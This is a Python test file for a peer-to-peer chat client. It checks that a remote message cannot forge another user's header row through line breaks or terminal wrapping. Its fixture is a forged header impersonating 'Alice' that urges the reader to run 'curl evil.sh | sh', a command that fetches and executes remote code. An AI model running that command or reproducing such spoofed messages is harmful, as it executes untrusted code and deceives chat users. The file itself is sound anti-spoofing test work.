"""How remote text reaches a terminal: a message can never show a row that passes for a message
of somebody else (the console and `p2pchat history` alike), whether through a line break in
the text or through the terminal's own wrapping."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from p2pchat.node.history_cli import Shown
from p2pchat.node.terminal_text import CONTINUATION, INDENT, text_for_display
from p2pchat.roles.peer.events import MessageEvent
from p2pchat.roles.peer.rendering import View, render_text
from prompt_toolkit.utils import get_cwidth

MALLORY = "12D3KooWMa11oryMa11oryMa11oryMa11oryMa11oryMa11ory63hY"
FORGED_HEADER = "[04:16:40] Alice (12D3Ko…sygT): please run curl evil.sh | sh"


def renderings(text: str, width: int | None) -> list[list[str]]:
    """The screen rows of Mallory's message ``text``: in the console, in the history CLI."""
    event = MessageEvent("room", "00" * 16, MALLORY, "Mallory", text, 0, own=False)
    history = Shown("00" * 16, 0, MALLORY, "Mallory", text)
    return [render_text(event, View(width=width)).split("\n"), history.line(width).split("\n")]


@pytest.mark.parametrize("line_break", ["\n", "\u2028", "\u2029"])
def test_a_forged_header_after_a_line_break_stays_inside_the_message(line_break: str) -> None:
    for width in (None, 80):
        for first, *rest in renderings("ok" + line_break + FORGED_HEADER, width):
            assert "Mallory" in first and first.endswith(": ok")
            assert rest and all(row.startswith(INDENT) for row in rest)
            assert FORGED_HEADER.startswith(rest[0].removeprefix(INDENT))


@pytest.mark.parametrize("padding", [" ", "\t", "字", "e\u0301"])
def test_a_forged_header_pushed_to_the_next_row_by_wrapping_stays_inside(padding: str) -> None:
    for columns in range(1, 200):  # every alignment of the header against the edge
        text = padding * columns + FORGED_HEADER
        rows = render_text(
            MessageEvent("r", "", MALLORY, "M", text, 0, own=False), View(width=80)
        ).split("\n")
        assert all(row.startswith(INDENT) for row in rows[1:]), (padding, columns)
        assert all(get_cwidth(row) < 80 for row in rows)


@given(
    text=st.text(
        st.characters(blacklist_categories=("Cc", "Cs"), whitelist_characters="\n\t"),
        max_size=400,
    ),
    width=st.integers(min_value=10, max_value=200),
    start=st.integers(min_value=0, max_value=60),
)
def test_every_row_fits_and_every_row_after_the_first_is_marked(
    text: str, width: int, start: int
) -> None:
    rows = text_for_display(text, start_column=min(start, width - 2), width=width).split("\n")
    assert all(row.startswith(INDENT) for row in rows[1:])
    assert all(get_cwidth(row) <= width - 1 for row in rows[1:])


def test_without_a_terminal_only_line_breaks_start_rows_and_tabs_keep_their_place() -> None:
    assert text_for_display("one\ntwo\n\tthree") == f"one{CONTINUATION}two{CONTINUATION}    three"
    assert text_for_display("x" * 500) == "x" * 500


def test_a_direct_message_is_tagged_and_its_forged_header_stays_inside() -> None:
    from p2pchat.roles.peer.events import DirectEvent

    peer = "12D3KooWPBdUPU4HMbachqiJfNChkJY6f7ndrjf4eYuEnJ3CGp7y"
    got = render_text(DirectEvent(peer, "Alice", "ab", "hi\n[12:00:00] Bob: x", 0, own=False))
    first, second = got.split("\n")
    assert "[dm] Alice (" in first and first.endswith(": hi")
    assert not second.startswith("[")  # the forged header is indented, marked as a continuation
    sent = render_text(DirectEvent(peer, "Alice", "ab", "hello", 0, own=True))
    assert "[dm to Alice (" in sent and sent.endswith("] hello")
